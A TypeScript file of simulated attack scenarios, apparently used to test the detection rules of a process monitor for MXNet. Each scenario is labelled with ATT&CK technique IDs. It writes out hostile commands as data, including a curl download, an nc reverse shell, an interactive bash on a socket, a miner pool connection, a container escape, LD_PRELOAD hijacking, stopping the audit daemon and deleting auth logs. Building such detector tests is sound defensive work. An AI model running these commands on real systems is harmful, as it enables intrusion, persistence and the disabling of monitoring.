import { named, programs, type Scenario } from '../scenario.ts';

/** What a process with MXNet starts. Only the shell and the tools that tell who and where one is are real programs. */
export const programScenarios: readonly Scenario[] = [
  {
    name: 'shell', rule: 'child.shell', techniques: ['T1059.004', 'AML.T0050'], does: 'runs /bin/sh -c "sleep 20; true"', seenBy: programs,
    steps: [{ actor: "run('/bin/sh', '-c', 'sleep 20; true', called='sh')" }],
  },
  named('interpreter', 'child.interpreter', 'perl', ['-e', '1'], 'T1059', 'AML.T0050'),
  named('download-tool', 'child.download-tool', 'curl', ['-sO', 'http://203.0.113.7/x'], 'T1105', 'AML.T0050'),
  named('compiler', 'child.compiler', 'gcc', ['-shared', '-o', 'x.so', 'x.c'], 'T1027.004', 'AML.T0050'),
  named('recon-tool', 'child.recon-tool', 'nmap', ['-sS', '10.81.0.0/24'], 'T1046', 'AML.T0089'),
  named('privilege-tool', 'child.privilege-tool', 'sudo', ['-n', 'id'], 'T1548.003', 'AML.T0050'),
  named('persistence-tool', 'child.persistence-tool', 'crontab', ['-'], 'T1053.003', 'AML.T0050'),
  named('container-tool', 'child.container-tool', 'nsenter', ['-t', '1', '-m', 'sh'], 'T1609', 'T1611', 'AML.T0105'),
  named('miner', 'child.miner', 'xmrig', ['-o', 'stratum+tcp://pool.invalid:3333'], 'T1496', 'AML.T0034'),
  named('program-from-temporary-folder', 'child.from-temporary', 'tool', ['once'], 'T1059', 'AML.T0011.000'),
  {
    name: 'program-from-shared-memory', rule: 'child.from-temporary', techniques: ['T1059', 'AML.T0011.000'], does: 'runs a program that only sleeps from a folder of its own in /dev/shm', seenBy: programs,
    steps: [{ actor: `
if not SHARED:
    raise Cannot('this host has no /dev/shm')
run(SHARED + '/tool')` }],
  },
  {
    name: 'program-from-memory', rule: 'child.from-temporary', techniques: ['T1620', 'AML.T0018.002'], does: 'runs a program that only sleeps from a memory file (memfd_create)', seenBy: programs,
    steps: [{ actor: `
memory = os.memfd_create('mxwarden-simulate')
os.write(memory, open(place('bin/tool'), 'rb').read())
start(['tool'], f'/proc/self/fd/{memory}', pass_fds=[memory])
os.close(memory)` }],
  },
  {
    name: 'program-beside-model', rule: 'child.from-model-folder', techniques: ['T1204.002', 'AML.T0011.000'], does: 'runs a program that only sleeps from the folder of the model', seenBy: programs,
    steps: [{ actor: "run(place('tool'))" }],
  },
  {
    name: 'program-just-dropped', rule: 'child.dropped', techniques: ['T1105', 'T1204.002', 'AML.T0112.001'], does: 'writes a program that only sleeps, then runs it', seenBy: programs,
    steps: [{ actor: `
write('bin/fresh', open(place('bin/tool'), 'rb').read())
os.chmod(place('bin/fresh'), 0o700)
run('fresh')` }],
  },
  named('reverse-shell', 'child.reverse-shell', 'nc', ['-e', '/bin/sh', '127.0.0.1', '9'], 'T1059.004', 'T1071', 'AML.T0072'),
  {
    name: 'shell-on-socket', rule: 'child.on-socket', techniques: ['T1059.004', 'T1071', 'AML.T0072'], needsRoot: true, seenBy: programs, runs: 'bash',
    does: 'runs a program that only sleeps, as bash -i, whose input and output are a connection to 203.0.113.8, in a network of its own that has no way out',
    steps: [{ actor: "apart(['203.0.113.8'], lambda: hang('bash', '-i', address='203.0.113.8'))" }],
  },
  {
    name: 'masquerade', rule: 'child.masquerade', techniques: ['T1036.005', 'AML.T0074'], does: 'runs a program that only sleeps, as [kworker/0:1]', seenBy: programs,
    steps: [{ actor: "run('tool', called='[kworker/0:1]')" }],
  },
  named('preload', 'child.preload', 'env', ['LD_PRELOAD=/tmp/mxwarden-simulate.so', 'ls'], 'T1574.006', 'AML.T0011.000'),
  named('through-linker', 'child.through-linker', 'ld-linux-x86-64.so.2', ['/srv/mxwarden-simulate'], 'T1574.006', 'AML.T0011.000'),
  // What it starts must end by itself: we end only the program that we know.
  {
    name: 'first-ever-program', rule: 'child.first-ever', techniques: ['T1059', 'AML.T0050'], does: 'runs timeout 20 sleep 20', seenBy: programs,
    steps: [{ actor: `
import shutil
program = shutil.which('timeout') or '/usr/bin/timeout'
if os.path.realpath(program) == os.path.realpath('/bin/sh'):
    raise Cannot('here all tools are one program, which has run before')
run(program, '20', 'sleep', '20', called='timeout')` }],
  },
  named('stop-agent', 'tampering.agent-command', 'systemctl', ['stop', 'mxwarden'], 'T1562.001', 'AML.T0107'),
  named('stop-guard', 'tampering.guard-command', 'auditctl', ['-e', '0'], 'T1562.001', 'AML.T0107'),
  named('remove-logs', 'tampering.logs-removed', 'rm', ['/var/log/auth.log'], 'T1070.002', 'T1070.003', 'AML.T0107'),
];
